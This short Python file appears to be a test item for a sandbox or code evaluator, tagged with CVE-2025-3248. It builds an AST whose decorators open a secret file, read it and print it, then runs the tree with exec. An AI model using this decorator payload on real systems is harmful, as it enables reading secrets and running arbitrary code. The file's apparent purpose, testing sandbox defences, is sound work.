"""Build the program as a tree, and run what it decorates.

family: evaluators
canary: secret
stops: full, container
root: no
related: CVE-2025-3248
"""

import ast

tree = ast.parse("@print\n@open\n@lambda _: SECRET_FILE\ndef f(): ...")
tree.body[0].decorator_list[0] = ast.parse("lambda file: print(file.read())", mode="eval").body
exec(compile(tree, "built", "exec"))
